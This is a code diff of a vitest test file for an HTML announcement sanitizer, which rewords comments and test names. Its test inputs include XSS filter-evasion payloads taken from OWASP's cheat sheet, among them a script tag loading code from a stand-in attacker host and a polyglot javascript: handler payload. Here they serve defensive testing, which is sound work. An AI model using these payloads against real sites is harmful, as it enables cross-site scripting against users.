@@ -2,7 +2,7 @@ import { expect, it } from 'vitest'
 import { JSDOM } from 'jsdom'
 import { sanitizeAnnouncement } from './sanitizeAnnouncement.ts'
 
-/** Ways around filters, after OWASP's XSS Filter Evasion Cheat Sheet (CC BY-SA 4.0). */
+/** Filter evasions from OWASP's XSS Filter Evasion Cheat Sheet (CC BY-SA 4.0). */
 const evasions = [
   `<SCRIPT SRC=https://attack.example/x.js></SCRIPT>`,
   `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
@@ -71,7 +71,7 @@ const evasions = [
 
 const allowedTags = ['P', 'BR', 'B', 'I', 'UL', 'OL', 'LI', 'A']
 
-it.each(evasions)('leaves nothing that runs or loads of %s', (html) => {
+it.each(evasions)('removes everything that runs or loads content from %s', (html) => {
   const clean = sanitizeAnnouncement(html) ?? ''
   const { document } = new JSDOM(`<body>${clean}</body>`).window
   for (const element of document.body.querySelectorAll('*')) {
@@ -97,6 +97,6 @@ it('keeps paragraphs, emphasis, lists and links to https addresses', () => {
 })
 
 it.each(['', '   ', null, undefined, '<script>alert(1)</script>', '<p>&nbsp; <br></p>'])(
-  'is nothing where nothing can be read: %j',
+  'returns null for content without readable text: %j',
   (html) => expect(sanitizeAnnouncement(html)).toBeNull(),
 )
